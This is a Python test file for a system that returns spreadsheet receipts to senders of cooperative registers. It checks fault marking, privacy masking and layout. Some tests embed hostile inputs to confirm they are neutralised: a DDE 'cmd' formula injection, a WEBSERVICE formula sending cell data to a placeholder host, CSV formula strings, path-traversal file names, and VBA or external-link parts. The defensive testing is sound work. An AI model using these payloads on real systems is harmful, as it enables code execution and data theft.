"""Receipts: what they show, what they must not show, and for which files they are made."""

import argparse
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
import xlsxwriter
from docx import Document
from openpyxl import load_workbook

from ntm import ledger
from ntm.cli import main
from ntm.errors import NtmError
from ntm.intake.fetch import fetch
from ntm.intake.settle import settle, spread_here
from ntm.outbox import (
    book_new,
    receipt,
    receipt_book,
    receipt_facts,
    receipt_lists,
    receipt_sources,
)
from ntm.outbox.book_cells import HIDDEN
from ntm.outbox.receipt import find_delivery, write_receipts
from ntm.outbox.receipt_facts import Facts, Records
from quality import check
from tests import river
from tests.outbox import poison

PLACE = "2025-H1/48-ccptnt/"
HEADER = list(river.COOPERATIVES_HEADER)


def rows(*bad: tuple) -> list[list]:
    """A register of good rows; `bad` are (row, column, text), counted from 0."""
    lines = [
        [
            "Huyện Hòa Vang",
            commune,
            f"480000{n:04d}",
            f"HTX {n}",
            "HTX",
            "Hoạt động",
            "Trồng trọt",
            "",
        ]
        for n, (_, commune, _) in enumerate(river.communes("48", "2025-H1", 6))
    ]
    for row, column, text in bad:
        lines[row][column] = text
    return lines


def answer(
    root, name: str, content: bytes, place: str = PLACE, at: datetime | None = None
) -> bytes:
    """The receipt of a file, standardized but not checked."""
    river.put(root, place + name, content, at)
    ledger.prepare()
    news = [row["delivery_id"] for row in fetch()]
    settle(1, spread_here)
    written = write_receipts(news)
    assert [one.fault for one in written] == [""]
    with open(written[0].address, "rb") as file:  # noqa: PTH123
        return file.read()


def texts(content: bytes) -> list[str]:
    """All texts of the first page."""
    book = load_workbook(io.BytesIO(content))
    return [str(value) for row in book.worksheets[0].values for value in row if value is not None]


def as_csv(lines: list[list]) -> bytes:
    return "\n".join(";".join(line) for line in [HEADER, *lines]).encode()


def as_json(lines: list[list]) -> bytes:
    return json.dumps([dict(zip(HEADER, line, strict=True)) for line in lines]).encode()


def as_docx(lines: list[list]) -> bytes:
    document = Document()
    table = document.add_table(rows=0, cols=len(HEADER))
    for line in [HEADER, *lines]:
        for cell, text in zip(table.add_row().cells, line, strict=True):
            cell.text = text
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


@pytest.mark.parametrize(
    ("name", "made"), [("a.csv", as_csv), ("a.json", as_json), ("a.docx", as_docx)]
)
def test_what_is_no_workbook_comes_back_as_one_and_can_be_repaired_there(data_root, name, made):
    content = made(rows((1, 2, "???"), (3, 4, "công ty")))
    book = load_workbook(io.BytesIO(answer(data_root, name, content)))
    lines = poison.listed(book)
    assert [line.written for line in lines] == ["???", "công ty"]
    for line in lines:
        page = book[line.sheet]
        assert page[line.cell].value == line.written
        page[line.cell].value = {"???": "4800000001", "công ty": "HTX"}[line.written]
    target = io.BytesIO()
    book.save(target)
    again = answer(data_root, "a.xlsx", target.getvalue())
    assert not poison.listed(load_workbook(io.BytesIO(again)))
    assert any("6 dòng được chấp nhận" in text for text in texts(again))


def test_the_look_of_a_workbook_stays_and_untouched_parts_are_the_very_same_bytes(data_root):
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True})
    page, other = book.add_worksheet("Hợp tác xã"), book.add_worksheet("Biểu đồ")
    bold = book.add_format({"bold": True, "bg_color": "#DDEEFF", "num_format": "0000000000"})
    page.write_row(0, 0, HEADER, bold)
    for number, line in enumerate(rows((1, 2, "???"))):
        page.write_row(number + 1, 0, line, bold)
    page.set_column(0, 3, 31)
    page.merge_range(20, 0, 20, 3, "Ghi chú: số liệu của tỉnh", bold)
    page.data_validation(1, 4, 9, 4, {"validate": "list", "source": ["HTX", "THT"]})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "='Biểu đồ'!$A$1:$A$3"})
    other.write_column(0, 0, [1, 2, 3])
    other.insert_chart("C1", chart)
    book.close()
    sent = zipfile.ZipFile(target)
    back = zipfile.ZipFile(io.BytesIO(answer(data_root, "a.xlsx", target.getvalue())))
    same = {n for n in sent.namelist() if n in back.namelist() and sent.read(n) == back.read(n)}
    assert {"xl/charts/chart1.xml", "xl/drawings/drawing1.xml", "xl/sharedStrings.xml"} <= same
    returned = load_workbook(io.BytesIO(back.fp.getvalue()))
    shown = returned["Hợp tác xã"]
    assert returned.sheetnames == ["Phiếu tiếp nhận", "Hợp tác xã", "Biểu đồ"]
    assert returned.active.title == "Phiếu tiếp nhận"
    assert [view.tabSelected for view in shown.views.sheetView] in ([None], [False])
    assert shown.column_dimensions["A"].width == pytest.approx(31, abs=1)
    assert str(next(iter(shown.merged_cells.ranges))) == "A21:D21"
    assert shown["C3"].font.b
    assert shown["C3"].number_format == "0000000000"
    assert poison.coloured(shown) == {"C3"}
    assert "docProps/core.xml" not in back.namelist()


PERSONS = ["Trần Thị Bí Mật", "Nguyễn Văn Kín", "0912345678", "bimat@example.org", "Phó Chủ tịch"]


def officials() -> bytes:
    """A workbook with personal columns, a name in place of a pseudonym, and a sheet of no form."""
    header = [
        "Xã",
        "Mã cán bộ",
        "Họ và tên",
        "Chức vụ",
        "Cơ quan công tác",
        "Ngày bắt đầu tham gia",
    ]
    (_, first, _), (_, second, _) = river.communes("48", "2025-H1", 2)
    lines = [
        header,
        [first, "CB-48-00001", PERSONS[0], PERSONS[4], "UBND xã", "31/02/2025"],
        [second, PERSONS[1], PERSONS[1], PERSONS[4], "???", "01/3/2022"],
    ]
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True})
    page, other = book.add_worksheet("Cán bộ quản lý"), book.add_worksheet("Danh bạ")
    for number, line in enumerate(lines):
        page.write_row(number, 0, line)
    other.write_row(0, 0, ["Đơn vị", "Số điện thoại", "Email"])
    other.write_row(1, 0, ["UBND xã", PERSONS[2], PERSONS[3]])
    book.close()
    return target.getvalue()


@pytest.mark.parametrize("is_plain", [True, False])
def test_no_byte_of_a_receipt_tells_who_a_person_is(data_root, monkeypatch, is_plain):
    if not is_plain:
        monkeypatch.setattr(receipt_sources, "MOST_ROWS", 0)
    content = answer(data_root, "a.xlsx", officials(), "2025-H1/48-vpdpntm/")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    for person in PERSONS:
        assert person.encode() not in whole
        assert "".join(f"&#{ord(letter)};" for letter in person).encode() not in whole
    book = load_workbook(io.BytesIO(content))
    page = book["Cán bộ quản lý"]
    assert page["C1"].value == "Họ và tên"
    assert page["C2"].value == page["D2"].value == page["B3"].value == HIDDEN
    assert page["B2"].value == "CB-48-00001"
    assert page["E2"].value == "UBND xã"
    assert {line.cell for line in poison.listed(book)} >= {"B3", "E3", "F2"}


def test_formulas_that_reach_outside_leave_their_values_only(data_root):
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True})
    page = book.add_worksheet("Hợp tác xã")
    page.write_row(0, 0, [*HEADER, "Số thành viên"])
    for number, line in enumerate(rows((1, 2, "???"))):
        page.write_row(number + 1, 0, [*line, 7])
    page.write_formula(1, 3, '=HYPERLINK("http://x.example","HTX 0")', None, "HTX 0")
    page.write_formula(2, 3, '=WEBSERVICE("http://x.example/"&A1)', None, "HTX 1")
    page.write_formula(3, 3, "=cmd|'/c calc'!A1", None, "HTX 2")
    page.write_formula(1, 8, "=SUM(I3:I7)-30+2", None, 7)
    book.close()
    content = answer(data_root, "a.xlsx", target.getvalue())
    whole = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    for word in (b"HYPERLINK", b"WEBSERVICE", b"cmd"):
        assert word not in whole
    page = load_workbook(io.BytesIO(content))["Hợp tác xã"]
    assert [page.cell(row, 4).value for row in (2, 3, 4)] == ["HTX 0", "HTX 1", "HTX 2"]
    assert page["I2"].value == "=SUM(I3:I7)-30+2"


def test_a_text_that_looks_like_a_formula_stays_a_text_in_a_rebuilt_workbook(data_root):
    content = answer(data_root, "a.csv", as_csv(rows((1, 2, "=1+1"), (2, 3, "=cmd|x"))))
    book = load_workbook(io.BytesIO(content))
    cells = [cell for page in book for row in page.iter_rows() for cell in row]
    assert "=1+1" in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n", "inlineStr"}


@pytest.mark.parametrize("extra", ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml"])
def test_a_workbook_with_more_than_sheets_is_built_anew(data_root, extra):
    plain = river.workbook([HEADER, *rows((1, 2, "???"))], "Hợp tác xã")
    kinds = {"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject",
             "xl/externalLinks/externalLink1.xml": "application/vnd.openxmlformats-officedocument"
             ".spreadsheetml.externalLink+xml"}  # fmt: skip
    source, target = zipfile.ZipFile(io.BytesIO(plain)), io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name in source.namelist():
            content = source.read(name)
            if name == "[Content_Types].xml":
                line = f'<Override PartName="/{extra}" ContentType="{kinds[extra]}"/></Types>'
                content = content.replace(b"</Types>", line.encode())
            archive.writestr(name, content)
        archive.writestr(extra, b"<x/>")
    content = answer(data_root, "a.xlsx", target.getvalue())
    assert not [
        n for n in zipfile.ZipFile(io.BytesIO(content)).namelist() if "vba" in n or "ext" in n
    ]
    book = load_workbook(io.BytesIO(content))
    assert [line.cell for line in poison.listed(book)] == ["C3"]
    assert book["Hợp tác xã"]["C3"].value == "???"


def test_of_a_very_long_sheet_only_rows_with_faults_come_back_and_are_no_form(
    data_root, monkeypatch
):
    monkeypatch.setattr(receipt_sources, "MOST_ROWS", 5)
    monkeypatch.setattr(book_new, "MOST_ROWS", 5)
    sent = river.workbook([HEADER, *rows((1, 2, "???"), (4, 4, "công ty"))], "Hợp tác xã")
    content = answer(data_root, "a.xlsx", sent)
    page = load_workbook(io.BytesIO(content))["Hợp tác xã"]
    shown = [[cell for cell in row if cell is not None] for row in page.values]
    assert [row[0] for row in shown[2:]] == [1, 3, 6]
    assert poison.coloured(page) == {"D4", "F5"}
    again = answer(data_root, "b.xlsx", content)
    assert any("không đọc được số liệu nào" in text for text in texts(again))


def test_of_a_huge_file_the_page_alone_comes_back_and_lists_the_faults(data_root, monkeypatch):
    monkeypatch.setattr(receipt_book, "MOST_BYTES", 10)
    monkeypatch.setattr(receipt, "MOST_BYTES", 10)
    content = answer(data_root, "a.csv", as_csv(rows((1, 2, "???"))))
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Phiếu tiếp nhận"]
    assert [(line.cell, line.written) for line in poison.listed(book)] == [("C3", "???")]
    assert any("chỉ có danh sách lỗi" in text for text in texts(content))


def test_of_very_many_faults_the_first_are_listed_and_all_are_counted(data_root, monkeypatch):
    monkeypatch.setattr(receipt_facts, "MOST_FAULTS", 3)
    monkeypatch.setattr(receipt_lists, "MOST_LISTED", 2)
    bad = rows(*[(row, 2, "???") for row in range(6)])
    content = answer(data_root, "a.xlsx", river.workbook([HEADER, *bad], "Hợp tác xã"))
    book = load_workbook(io.BytesIO(content))
    assert [line.cell for line in poison.listed(book)] == ["C2", "C3"]
    assert poison.coloured(book["Hợp tác xã"]) == {"C2", "C3", "C4"}
    assert any("Có 6 lỗi" in text for text in texts(content))


@pytest.mark.parametrize(
    ("name", "place", "said"),
    [
        ("a.xlsx", PLACE, "Tệp hỏng"),
        ("a.xlsx", "khong-ro/", "không nằm trong thư mục"),
        ("a.xlsx", "2025-H1/thanh-hoa/", "Không biết đơn vị gửi"),
    ],
)
def test_a_file_that_cannot_be_read_gets_the_reason(data_root, name, place, said):
    river.put(data_root, place + name, b"PK\x03\x04 no workbook")
    river.run()
    (one,) = write_receipts(())
    with open(one.address, "rb") as file:  # noqa: PTH123
        content = file.read()
    assert any(said in text for text in texts(content))
    assert write_receipts(()) == []


def test_check_answers_every_sender_and_tells_what_is_held(data_root, capsys):
    river.put(data_root, PLACE + "a.xlsx", river.workbook([HEADER, *rows()], "Hợp tác xã"))
    bad = rows(*[(row, 2, "???") for row in range(6)])
    river.put(data_root, "2025-H1/49-ccptnt/b.xlsx", river.workbook([HEADER, *bad], "Hợp tác xã"))
    ledger.prepare()
    fetch()
    settle(1, spread_here)
    check.run(argparse.Namespace())
    assert "2 × receipt" in capsys.readouterr().out
    (good,) = (data_root / "outbox" / "48-ccptnt").iterdir()
    (held,) = (data_root / "outbox" / "49-ccptnt").iterdir()
    assert load_workbook(good).sheetnames == ["Phiếu tiếp nhận"]
    said = texts(held.read_bytes())
    assert "Tạm giữ" in said
    assert "Không có dòng nào được chấp nhận." in "\n".join(said)
    check.run(argparse.Namespace())
    assert "receipt" not in capsys.readouterr().out


def test_a_receipt_made_again_is_the_same_to_the_last_byte(data_root, tmp_path, capsys):
    first = answer(data_root, "a.xlsx", river.workbook([HEADER, *rows((1, 2, "???"))], "HTX"))
    (delivery,) = ledger.read("fetch").to_pylist()
    out = tmp_path / "phieu.xlsx"
    assert main(["receipt", delivery["delivery_id"][:8], "--out", str(out)]) == 0
    assert out.read_bytes() == first
    assert str(out) in capsys.readouterr().out
    assert main(["receipt", "no-such-delivery", "--out", str(out)]) == 1


def test_an_unknown_receipt_is_refused(data_root):
    ledger.prepare()
    with pytest.raises(NtmError, match="ffff"):
        find_delivery(Records(), "ffff")


def test_a_receipt_that_comes_back_shows_only_what_is_still_wrong(data_root):
    sent = river.workbook([HEADER, *rows((1, 2, "???"), (3, 4, "công ty"))], "Hợp tác xã")
    book = load_workbook(io.BytesIO(answer(data_root, "a.xlsx", sent)))
    assert poison.coloured(book["Hợp tác xã"]) == {"C3", "E5"}
    book["Hợp tác xã"]["C3"].value = "4800000001"
    target = io.BytesIO()
    book.save(target)
    again = load_workbook(io.BytesIO(answer(data_root, "a.xlsx", target.getvalue())))
    assert again.sheetnames == ["Phiếu tiếp nhận", "Hợp tác xã"]
    page = again["Hợp tác xã"]
    assert poison.coloured(page) == {"E5"}
    assert [cell.coordinate for row in page.iter_rows() for cell in row if cell.comment] == ["E5"]


def test_silent_units_are_named(data_root):
    counted = river.communes("48", "2025-H1", 20)
    content = answer(
        data_root, "a.xlsx", river.criteria("48", "2025-H1", met=2, count=3), "2025-H1/48-skhcn/"
    )
    said = "\n".join(texts(content))
    assert f"Còn {len(counted) - 3} đơn vị chưa có dòng nào được chấp nhận" in said
    assert counted[5][1] in said
    assert counted[0][1] not in said


def test_simulated_data_say_so(data_root):
    content = answer(
        data_root, "a.xlsx", river.cooperatives("48", "2025-H1", [""]), "2025-H1/48-ccptnt/"
    )
    assert "SỐ LIỆU MÔ PHỎNG" in texts(content)


@pytest.mark.parametrize("name", ["../../x.xlsx", "a/b.xlsx", "…", " .xlsx", "x" * 300 + ".csv"])
def test_no_name_leads_a_receipt_out_of_its_folder(data_root, name):
    from ntm.outbox.receipt import address

    delivery = {"delivery_id": "0123456789abcdef", "sender": "../48", "period": "../x",
                "base_name": name}  # fmt: skip
    path = address(Facts(delivery)).removeprefix(f"{data_root}/outbox/")
    assert len(path.split("/")) == 2
    assert not any(part.startswith(".") for part in path.split("/"))
    assert len(path) < 120


def test_many_receipts_written_by_several_processes_are_the_same(data_root, monkeypatch):
    for number in range(3):
        content = as_csv(rows((number, 2, "???")))
        river.put(data_root, f"{PLACE}{number}.csv", content)
    ledger.prepare()
    news = [row["delivery_id"] for row in fetch()]
    settle(1, spread_here)
    alone = {one.address: Path(one.address).read_bytes() for one in write_receipts(news)}
    for address in alone:
        Path(address).unlink()
    monkeypatch.setattr(receipt, "WORTH_PROCESSES", 2)
    written = write_receipts(news)
    assert [one.fault for one in written] == [""] * 3
    assert {one.address: Path(one.address).read_bytes() for one in written} == alone
